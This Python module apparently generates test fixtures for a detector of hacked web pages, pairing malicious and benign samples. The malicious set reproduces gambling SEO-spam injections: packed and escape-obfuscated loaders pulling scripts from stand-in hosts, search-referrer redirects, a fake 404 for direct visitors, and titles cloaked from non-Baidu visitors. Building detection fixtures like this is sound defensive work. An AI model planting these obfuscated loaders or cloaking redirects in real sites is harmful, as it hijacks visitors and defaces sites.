"""Pages that someone else writes on, as write-ups and saved pages show them, and honest scripts."""

from __future__ import annotations

import re
from base64 import b64encode

from .checks_frames import ARTICLE, DRAWN, HOME, article, home, script, single

LOADER = '<script type="text/javascript" src="https://www.tjyb-207.example/yb.js"></script>'
GAMES = "https://www.xpj-3088.example/"
SETTINGS = b64encode(b'{"theme":"red","page":10}').decode()
DIGITS = "0123456789abcdefghijklmnopqrstuvwxyz"


def put(half: str, name: str, html: str, *seen: str, url: str = HOME) -> None:
    """A page and the observations of `injection` on it."""
    single(half, f"injected/{name}", url, html, injection=list(seen))


def decimal(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(c):04x};" for c in text)


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(c):02X}" for c in text)


def numeral(n: int, radix: int) -> str:
    """This number as the packer writes it."""
    head = "" if n < radix else numeral(n // radix, radix)
    last = n % radix
    return head + (chr(last + 29) if last > 35 else DIGITS[last])


def pack(code: str) -> str:
    """Code as the common packer of scripts writes it: words by number, their list behind."""
    words = list(dict.fromkeys(re.findall(r"\w+", code)))
    radix = max(len(words), 2)
    number = {word: numeral(n, radix) for n, word in enumerate(words)}
    body = re.sub(r"\w+", lambda m: number[m.group()], code)
    body = body.replace("\\", "\\\\").replace("'", "\\'")
    return (
        "eval(function(p,a,c,k,e,r){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};"
        "if(!''.replace(/^/,String)){while(c--)r[e(c)]=k[c]||e(c);k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};"
        "while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
        f"('{body}',{radix},{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


WRITES = f'window["document"]["write"](\'{LOADER.replace("</", "<%/").replace("%", chr(92))}\');'


def head_of_the_changed(title: str, about: str, own: str, code: str) -> str:
    """What stands in the head of changed pages: title and words in references, the own title for others."""
    return (
        f'<title>{decimal(title)}</title>\n<meta name="keywords" content="{decimal(title)}"/>\n'
        f'<meta name="description" content="{decimal(about)}"/>\n'
        f'<script>if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){{document.title ="{own}"}}</script>\n'
        f'<script type="text/javascript">{code}</script>\n'
    )


def changed(head: str, page: str | None = None) -> str:
    """A home page whose title was taken out and this put in its place."""
    page = page or home("")
    return re.sub(r"<title>.*?</title>", lambda _: head, page, count=1)


def words_in_an_array(words: list[str], code: str) -> str:
    """A script whose words stand in an array of escapes, with the mark of its maker before it."""
    listed = ",".join(f'"{escaped(word)}"' for word in words)
    return (
        "var __encode ='jsbian.com', _0xb1=[\"\\x5F\\x64\\x65\"];(function(_0xd1){_0xd1[_0xb1[0]]= _0xb1[0]})(window);"
        f"var __Ox27a1c=[{listed}];{code}"
    )


def drawn_guilty() -> None:
    put(
        DRAWN,
        "head_with_a_loader_packed_twice",
        changed(
            head_of_the_changed(
                "OD体育·(中国)官方网站", "⚽️【OD体育官网】", "澄湖县人民政府", pack(pack(WRITES))
            )
        ),
        "page_defaced",
        "script_trick",
    )
    put(
        DRAWN,
        "head_with_a_loader_packed_once",
        changed(
            head_of_the_changed(
                "抢庄牌九游戏平台,真钱抢庄牌九",
                "抢庄牌九手游下载",
                "澄湖县人民政府-首页",
                pack(WRITES),
            )
        ),
        "page_defaced",
        "script_trick",
    )
    array = words_in_an_array(
        ["referrer", "baidu", "indexOf", "sogou", "soso", "bing", "href", "location", GAMES],
        "var _0x1f=document[__Ox27a1c[0]];if(_0x1f[__Ox27a1c[2]](__Ox27a1c[1])>0||_0x1f[__Ox27a1c[2]](__Ox27a1c[3])>0||_0x1f[__Ox27a1c[2]](__Ox27a1c[5])>0){self[__Ox27a1c[7]][__Ox27a1c[6]]=__Ox27a1c[8]}",
    )
    put(
        DRAWN,
        "words_of_a_jump_in_an_array",
        changed(
            f"<title>{hexadecimal('极速飞艇开奖直播,一样的开奖不一样的速度')}</title>"
            '<script>if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="澄湖新闻网"}</script>'
            + script(array)
        ),
        "page_defaced",
        "script_trick",
    )
    put(DRAWN, "words_of_a_jump_in_an_array_alone", home("", head=script(array)), "script_trick")
    put(
        DRAWN,
        "not_found_but_for_those_who_searched",
        home(
            script(
                'function show404HTML(){document.querySelector("body").innerHTML="<div>404 页面未找到</div>";}'
                'function checkfun(){var s=document.referrer||"";var host=document.domain||window.location.host||"";'
                'if(s.indexOf("google")==-1&&s.indexOf("baidu")==-1&&s.indexOf("sogou")==-1&&s.indexOf("360")==-1&&s.indexOf(host)==-1){show404HTML();return;}'
                f'window.location.href="{GAMES}";}}checkfun();'
            )
        ),
        "script_trick",
    )
    put(
        DRAWN,
        "title_alone_in_plain_letters",
        home("", title="BOB体育(中国)官方网站·app下载"),
        "page_defaced",
    )
    put(
        DRAWN,
        "keywords_and_description_alone",
        home(
            "",
            head=f'<meta name="keywords" content="{decimal("北京赛车pk10开奖直播,幸运飞艇注册")}"><meta name="description" content="{decimal("北京赛车pk10投注平台开户，真人百家乐，首存送彩金")}">',
        ),
        "page_defaced",
    )
    halves = 'document.write(String.fromCharCode(60,83,67,82,73,80,84));document.write(\' src="http://u.lmad-88.example/mb/t.js?sid=2100" type="text/javascript">\');document.write(String.fromCharCode(60,47,83,67,82,73,80,84,62));'
    put(DRAWN, "tag_of_a_script_by_its_codes", home(script(halves)), "foreign_script")
    put(
        DRAWN,
        "atob_run_at_the_end",
        home(
            f'<script>eval(atob("{b64encode(f"location.href={GAMES!r}".encode()).decode()}"))</script>'
        ),
        "script_trick",
    )
    put(
        DRAWN,
        "stranger_of_counts_in_the_foot",
        home('<script src="https://cdn.tongji-wang66.example/t.js"></script>'),
        "foreign_script",
    )
    put(
        DRAWN,
        "article_of_the_trade_under_the_own_name",
        article(
            title="葡京娱乐场官网_葡京娱乐场开户",
            text="<p>葡京娱乐场提供真人百家乐、老虎机、时时彩投注，注册送彩金。</p>" * 3,
        ),
        "page_defaced",
        url=ARTICLE,
    )


def drawn_innocent() -> None:
    own = escaped("www.chenghu-xian.invalid")
    put(
        DRAWN,
        "leads_back_to_its_own_host",
        home(
            script(
                f'str = "{own}";if (window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"]["\\x68\\x6f\\x73\\x74"] != str) {{ location["\\x68\\x72\\x65\\x66"] = location["\\x68\\x72\\x65\\x66"]["\\x72\\x65\\x70\\x6c\\x61\\x63\\x65"](window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"]["\\x68\\x6f\\x73\\x74"], str); }}'
            )
        ),
    )
    put(
        DRAWN,
        "counter_of_a_known_maker_in_escapes",
        home(
            script(
                'var B4 = window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74"]("\\x73\\x63\\x72\\x69\\x70\\x74");'
                f'B4["\\x73\\x72\\x63"] = "{escaped("https://hm.baidu.com/hm.js?61e3")}";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(B4,s);'
            )
        ),
    )
    put(
        DRAWN,
        "letters_to_the_master_by_codes",
        home(
            "<p>联系：<script>\n{document.write(String.fromCharCode("
            + ",".join(
                str(ord(c))
                for c in '<a href="mailto:xxb@chenghu-xian.invalid" >xxb@chenghu-xian.invalid</a>'
            )
            + "))}\n</script></p>"
        ),
    )
    put(
        DRAWN,
        "maker_speaks_in_the_console",
        home(
            script(
                "if (new Date()['\\x76\\x61\\x6c\\x75\\x65\\x4f\\x66']() > 0) { console['\\x6c\\x6f\\x67']('\\u6280\\u672f\\u652f\\u6301\\x2d\\x2d\\u6e56\\u4e1c\\u8f6f\\u4ef6') }"
            )
        ),
    )
    put(
        DRAWN,
        "tables_of_a_library",
        home(
            '<table class="layui-hide" id="ID-table"></table><link rel="stylesheet" href="https://cdn.bootcdn.net/ajax/libs/layui/2.8.17/css/layui.css"><script src="https://cdn.bootcdn.net/ajax/libs/layui/2.8.17/layui.js"></script>'
            + script(
                "layui.use('table',function(){layui.table.render({elem:'#ID-table',url:'/api/list'})});"
            )
        ),
    )
    put(
        DRAWN,
        "packed_slides_of_its_own",
        home(
            script(
                pack(
                    "jQuery.fn.slideBox=function(o){var i=0,t=this.find('li');setInterval(function(){t.hide().eq(i++%t.length).fadeIn()},o.time||4000)};"
                )
            )
        ),
    )
    put(
        DRAWN,
        "entry_for_errors_asks_where_it_is",
        home(
            script(
                'function Link(site_code){var url=getCurrUrl();window.open("https://zfwzgl.www.gov.cn/exposure/jiucuo.html?site_code="+site_code+"&url="+encodeURIComponent(url));}'
                'function getCurrUrl(){var url="";if(parent!==window){try{url=window.top.location.href;}catch(e){url=window.top.document.referrer;}}if(url.length==0)url=document.location.href;return url;}'
            )
        ),
    )
    put(
        DRAWN,
        "where_the_visitor_is",
        home('<script src="https://pv.sohu.com/cityjson?ie=utf-8"></script>'),
    )
    put(
        DRAWN,
        "bar_of_an_application_of_a_search_engine",
        home(
            script(
                "if(/baiduboxapp|quark|ucbrowser/i.test(navigator.userAgent)){document.getElementById('today').style.display='none';}"
            )
        ),
    )
    put(
        DRAWN,
        "office_of_sports",
        home("", title="澄湖县体育局官方网站-全民健身(中国)公开赛澄湖站"),
    )
    put(
        DRAWN,
        "statistics_of_visits_by_hand",
        home(
            script(
                "var _yfx_trackdata=_yfx_trackdata||[];var _yfx_website='10000001';(function(){var f=document.createElement('script');f.src='/js/yfx.js?ref='+encodeURIComponent(document.referrer);document.body.appendChild(f)})();"
            )
        ),
    )
    put(
        DRAWN,
        "lottery_of_welfare_is_explained",
        article(
            title="北京快乐8等福利彩票公益金使用情况公告",
            text="<p>彩票公益金用于扶老、助残、救孤、济困，全年福利彩票销量、投注站数量及公益金使用情况公布如下。</p>"
            * 2,
        ),
        url=ARTICLE,
    )


def build() -> None:
    drawn_guilty()
    drawn_innocent()
